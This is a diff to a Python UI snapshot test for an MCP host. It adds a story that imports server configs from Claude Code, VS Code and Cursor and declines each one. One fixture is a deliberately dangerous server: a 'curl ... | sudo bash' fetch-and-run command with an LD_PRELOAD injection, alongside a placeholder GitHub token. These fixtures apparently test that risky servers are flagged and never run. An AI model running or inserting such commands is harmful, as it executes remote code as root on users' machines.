@@ -34,6 +34,8 @@ from mcphost.tui.consent.result_review import ResultScreen
 from mcphost.tui.elicitation.form import FormElicitationScreen
 from mcphost.tui.elicitation.url import UrlElicitationScreen
 from mcphost.tui.forms.edit_arguments import EditArgumentsScreen
+from mcphost.tui.imports.form import EditServerScreen
+from mcphost.tui.imports.line import ServerLineScreen
 from mcphost.tui.inbox.screen import InboxScreen
 from mcphost.tui.kit.export import SaveScreen
 from mcphost.tui.kit.reader import ReaderScreen
@@ -54,6 +56,7 @@ from tests.tui import stage as stage_module
 from tests.tui.chat.chats import chatting
 from tests.tui.elicitation.questions import ask, at, question_stage
 from tests.tui.elicitation.test_form import EVERY
+from tests.tui.imports.homes import claude_code, cursor, importing_stage, vscode
 from tests.tui.pictured import FOLDER, Snapshots
 from tests.tui.sampling.samplings import sampling_stage
 from tests.tui.sampling.test_screen import ASKED
@@ -74,6 +77,7 @@ def same_every_time(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
     (folder / "home" / "work").mkdir(parents=True)
     monkeypatch.setattr(stage_module, "short_folder", lambda: folder)
     monkeypatch.setenv("HOME", str(folder / "home"))
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(folder / "home" / ".config"))
     monkeypatch.setenv("COLORTERM", "truecolor")
     monkeypatch.chdir(folder / "home" / "work")
     monkeypatch.setattr(secrets, "randbelow", lambda limit: limit // 2)  # ids of requests begin there
@@ -146,6 +150,46 @@ async def first_start(snapshots: Snapshots) -> None:
     async with on_stage(stage_module.servers(), state, size=WIDE, start=start) as stage:
         await stage.shows("No server")
         await snapshots.take(stage, "no-servers")
+
+
+async def imports(snapshots: Snapshots) -> None:
+    """Nothing is added, so that none of these programs is run."""
+    token = {"GITHUB_TOKEN": "ghp_0123456789abcdefABCDEF0123456789abcd", "MODE": "read-only"}
+    script = "curl -fsSL https://get.example/mcp.sh | sudo bash && exec /tmp/mcp-helper --root /"
+    dsn = {"type": "promptString", "id": "dsn", "description": "Address of the database", "password": True}
+    claude_code(
+        notes={"command": "npx", "args": ["-y", "@example/server-files@1.2.3", "/home/ada/notes"], "autoApprove": []},
+        github={"command": "npx", "args": ["-y", "@example/server-github"], "env": token},
+        helper={"command": "bash", "args": ["-c", script], "env": {"LD_PRELOAD": "/tmp/x.so"}},
+    )
+    vscode(
+        [dsn],
+        db={"command": "uvx", "args": ["example-postgres==0.6.2"], "env": {"DSN": "${input:dsn}"}},
+        socket={"type": "ws", "url": "wss://mcp.example"},
+    )
+    cursor(github={"command": "npx", "args": ["-y", "@example/server-github"], "env": token})
+    async with importing_stage() as stage:
+        await stage.ready()
+        await stage.shows("Claude Code has 3 servers")
+        await snapshots.take(stage, "start")
+        await stage.look()
+        await snapshots.take(stage, "found")
+        await stage.press("enter")
+        for name in ("plain", "secret", "danger", "asked"):
+            await stage.asked()
+            await snapshots.take(stage, name)
+            if name == "asked":
+                await stage.press("e")
+                await stage.at(EditServerScreen)
+                await snapshots.take(stage, "edit")
+                await stage.press("escape")
+                await stage.asked()
+            await stage.press("n")
+        await stage.gone()
+    async with importing_stage(stage_module.echo()) as stage:
+        await stage.press("s", "a")
+        await stage.at(ServerLineScreen)
+        await snapshots.take(stage, "line")
 
 
 PARTS = {
@@ -483,6 +527,7 @@ STORIES: dict[str, Callable[[Snapshots], Awaitable[None]]] = {
     each.__name__.replace("_", "-"): each
     for each in (
         first_start,
+        imports,
         servers_and_tools,
         forms_and_changes,
         resources_and_prompts,
